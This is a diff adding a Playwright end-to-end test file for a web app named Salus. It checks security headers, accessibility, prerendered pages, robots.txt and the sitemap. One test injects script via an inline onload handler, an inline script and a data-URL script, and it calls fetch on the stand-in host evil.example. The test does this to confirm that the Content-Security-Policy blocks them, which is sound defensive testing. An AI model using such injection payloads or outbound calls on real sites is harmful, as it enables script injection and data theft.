@@ -1,0 +1,196 @@
+import type { Page } from "@playwright/test";
+import { expectAccessible, expectNoFindings } from "./support/accessibility.ts";
+import { NOT_FOUND } from "./support/console.ts";
+import { holdCalls } from "./support/network.ts";
+import { PRERENDERED, pagesOf, ROLES } from "./support/pages.ts";
+import { button, heading, mainMenu } from "./support/screens.ts";
+import { expect, test } from "./support/test.ts";
+
+test.describe.configure({ mode: "parallel" });
+
+declare global {
+  interface Window {
+    violations: string[];
+    wasInjected?: boolean;
+  }
+}
+
+const HEADERS = {
+  "strict-transport-security": /max-age=\d{8}/,
+  "x-content-type-options": /^nosniff$/,
+  "x-frame-options": /^DENY$/,
+  "content-security-policy": /frame-ancestors 'none'/,
+  "referrer-policy": /^strict-origin-when-cross-origin$/,
+  "permissions-policy": /camera=\(\)/,
+  "cross-origin-opener-policy": /^same-origin-allow-popups$/,
+};
+const POLICY = /default-src 'self'; script-src 'self' 'sha256-[^']+' /;
+
+const WIDE = { width: 1280, height: 720 };
+const NARROW = { width: 320, height: 640 };
+
+/** Records every violation of the Content-Security-Policy in `window.violations`. */
+const watchViolations = (page: Page) =>
+  page.addInitScript(() => {
+    window.violations = [];
+    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
+      window.violations.push(`${violatedDirective}: ${blockedURI}`),
+    );
+  });
+
+for (const role of ROLES)
+  test(`[N-4 N-5 A-5] every page for a ${role} has its title, safe headers, no axe finding in light or dark, and fits a 320-pixel screen`, async ({
+    page: visitors,
+    openAs,
+    shop,
+    consoleErrors,
+  }) => {
+    consoleErrors.expect(NOT_FOUND);
+    const { user, pages } = await pagesOf(role, shop);
+    const page = user ? await openAs(user) : visitors;
+    await watchViolations(page);
+    for (const { path, title, isComplete } of pages)
+      await test.step(title, async () => {
+        await page.setViewportSize(WIDE);
+        const response = await page.goto(path);
+        await isComplete(page);
+        await expect.soft(page).toHaveTitle(`${title} - Salus`);
+        await expect.soft(page.getByRole("heading", { level: 1 })).toHaveCount(1);
+        await expectNoFindings(page, title, "light");
+
+        await page.setViewportSize(NARROW);
+        const width = await page.evaluate(() => document.documentElement.scrollWidth);
+        expect.soft(width, `${title}: width`).toBe(NARROW.width);
+        await expectNoFindings(page, `${title} at 320 pixels`, "dark");
+
+        expect.soft(await page.evaluate(() => window.violations), title).toEqual([]);
+        const policy = page.locator("head > meta[http-equiv='Content-Security-Policy']");
+        await expect.soft(policy).toHaveAttribute("content", POLICY);
+        for (const [name, value] of Object.entries(HEADERS))
+          expect.soft(response?.headers()[name], name).toMatch(value);
+        expect.soft(response?.status()).toBe(path === "/no/such/page" ? 404 : 200);
+        // Pages behind the sign-in must not start from the home page's HTML.
+        if (user) expect.soft(await response?.text()).toContain('<div id="root"></div>');
+      });
+  });
+
+test("[X-6 S-1 K-2] public pages are complete without scripts, with what search engines and shared links need", async ({
+  browser,
+}) => {
+  const context = await browser.newContext({ javaScriptEnabled: false });
+  const page = await context.newPage();
+  for (const { path, title, text, canonical = path } of PRERENDERED)
+    await test.step(path, async () => {
+      await page.goto(path);
+      await expect(page).toHaveTitle(`${title} - Salus`);
+      await expect(page.getByRole("main")).toContainText(text);
+      const content = (name: string) => page.locator(`head > meta[${name}]`).getAttribute("content");
+      expect((await content('name="description"'))?.length).toBeGreaterThan(50);
+      expect(await content('property="og:title"')).toBe(`${title} - Salus`);
+      expect(await content('property="og:image"')).toMatch(/^https:\/\/.+\/og\.png$/);
+      const address = await page.locator('head > link[rel="canonical"]').getAttribute("href");
+      expect(address && new URL(address).pathname).toBe(canonical);
+    });
+
+  await page.goto("/portfolio");
+  for (const section of ["Personal info", "Skills", "Projects"])
+    await expect(page.getByRole("region", { name: section })).toBeVisible();
+  await expect(page.getByRole("link", { name: /^See it ?: Salus$/ })).toHaveAttribute("href", "/");
+  await context.close();
+});
+
+test("[X-6 N-3 N-5 N-7] hydration keeps the HTML of prerendered pages, and the phone's menu works", async ({
+  page,
+  consoleErrors,
+}) => {
+  consoleErrors.expect(NOT_FOUND);
+  await page.setViewportSize(NARROW);
+  const menu = page.getByRole("button", { name: "Menu" });
+  const login = mainMenu(page).getByRole("link", { name: "Login" });
+  for (const { path, title } of PRERENDERED)
+    await test.step(path, async () => {
+      await page.goto(path, { waitUntil: "domcontentloaded" });
+      const main = await page.getByRole("main").evaluateHandle((element) => element);
+      await expect(login).toBeHidden();
+      await menu.click();
+      await expect(menu).toHaveAttribute("aria-expanded", "true");
+      await expect(login).toBeVisible();
+      expect(await main.evaluate((element) => element.isConnected)).toBe(true);
+      await expect(page).toHaveTitle(`${title} - Salus`);
+      for (const tag of ['meta[name="description"]', 'link[rel="canonical"]', "title"])
+        await expect(page.locator(`head > ${tag}`)).toHaveCount(1);
+    });
+
+  await login.press("Enter");
+  await expect(heading(page, "Login")).toBeFocused();
+  await expect(login).toBeHidden();
+  await page.goto("/no/such/page");
+  await page.getByRole("link", { name: "Go to the home page" }).click();
+  await expect(page).toHaveURL("/home");
+  await expect(page.locator('head > meta[name="robots"]')).toHaveCount(0);
+});
+
+test("[X-6 N-5] a prerendered page requests its scripts after the first paint", async ({ page }) => {
+  const requested: string[] = [];
+  page.on("request", (request) => {
+    if (request.resourceType() === "script") requested.push(request.url());
+  });
+  const styles = await holdCalls(page, /\/assets\/.*\.css$/);
+  await page.goto("/blogs", { waitUntil: "commit" });
+  await styles.arrived;
+  await expect(page.getByRole("heading", { name: "Blogs" })).toBeAttached();
+  expect(requested).toEqual([]);
+  styles.release();
+  await expect.poll(() => requested.length).toBeGreaterThan(0);
+});
+
+test("[X-6] robots.txt excludes private pages and names the sitemap, whose pages all exist", async ({ request }) => {
+  const robots = await (await request.get("/robots.txt")).text();
+  for (const path of ["/dashboard", "/products$", "/products?", "/purchase/"])
+    expect(robots).toContain(`Disallow: ${path}\n`);
+  expect(robots).toMatch(/Sitemap: https:\/\/.+\/sitemap\.xml/);
+  const sitemap = await (await request.get("/sitemap.xml")).text();
+  const paths = [...sitemap.matchAll(/<loc>([^<]*)<\/loc>/g)].map(([, address = ""]) => new URL(address).pathname);
+  expect(paths).toEqual(expect.arrayContaining(["/", "/portfolio", "/blogs", "/contact"]));
+  expect(paths.filter((path) => path.startsWith("/blogs/")).length).toBeGreaterThanOrEqual(3);
+  for (const path of paths) expect((await request.get(path)).status(), path).toBe(200);
+});
+
+test("injected scripts do not run, and data cannot be sent to other hosts", async ({ page, consoleErrors }) => {
+  consoleErrors.expect(/Content Security Policy/, /Refused to connect/);
+  await watchViolations(page);
+  await page.goto("/contact");
+  const outcome = await page.evaluate(async () => {
+    const image = document.createElement("div");
+    image.innerHTML = '<img src="/favicon.svg" onload="window.wasInjected = true">';
+    const inline = document.createElement("script");
+    inline.textContent = "window.wasInjected = true";
+    document.body.append(inline, image);
+    const elsewhere = await fetch("https://evil.example/").then(
+      () => "sent",
+      () => "refused",
+    );
+    const external = await new Promise((resolve) => {
+      const script = document.createElement("script");
+      script.src = "data:text/javascript,window.wasInjected=true";
+      script.onerror = () => resolve("refused");
+      script.onload = () => resolve("ran");
+      document.body.append(script);
+    });
+    return { elsewhere, external };
+  });
+  expect(outcome).toEqual({ elsewhere: "refused", external: "refused" });
+  expect(await page.evaluate(() => window.wasInjected)).toBeUndefined();
+  await expect
+    .poll(() => page.evaluate(() => window.violations.map((text) => text.split(":")[0]).sort()))
+    .toEqual(["connect-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
+});
+
+test("[V-1 N-4] a form with mistakes and an open menu have no axe findings", async ({ page }) => {
+  await page.setViewportSize({ width: 390, height: 844 });
+  await page.goto("/signup");
+  await button(page, "Sign Up").click();
+  await expect(page.getByText("Email is Required")).toBeVisible();
+  await page.getByRole("button", { name: "Menu" }).click();
+  await expectAccessible(page, "a form with mistakes, and the open menu");
+});
